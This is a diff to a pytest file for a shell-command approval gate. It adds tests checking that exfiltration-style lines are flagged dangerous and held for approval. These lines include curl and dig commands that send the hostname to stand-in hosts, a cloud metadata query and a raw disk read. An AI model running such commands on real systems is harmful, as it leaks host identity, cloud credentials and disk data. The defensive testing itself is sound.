@@ -54,6 +54,28 @@ async def test_a_line_that_only_reads_runs_at_once_and_takes_no_budget(sqlite: D
         assert house.reporter.of(ApprovalAsked) == []
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -s http://192.0.2.9/?h=$(hostname)",
+        "dig $(hostname).example.org",
+        "curl -s http://169.254.169.254/latest/meta-data/",
+        "cat /dev/sda",
+    ],
+)
+async def test_a_line_that_carries_away_what_it_reads_waits_for_somebody_else(sqlite: Database, line: str) -> None:
+    async with a_house(sqlite, replies=SH) as house:
+        answer = await ran(house, line)
+        waiting = await house.reaches(answer.execution.id, State.AWAITING_APPROVAL)
+        assert waiting.danger is Danger.DANGEROUS
+        assert house.remote.count("sh -c") == 0
+
+
+async def test_a_plain_look_at_another_host_runs_at_once(sqlite: Database) -> None:
+    async with a_house(sqlite, replies=SH) as house:
+        assert (await house.ends(await ran(house, "curl -sI http://192.0.2.9/health"))).danger is Danger.READ
+
+
 @pytest.mark.parametrize("line", ["systemctl restart nginx", "touch /tmp/x", "df -h; touch /tmp/x", "frobnicate --all"])
 async def test_every_other_line_waits_for_somebody_else(sqlite: Database, line: str) -> None:
     async with a_house(sqlite, replies=SH) as house:
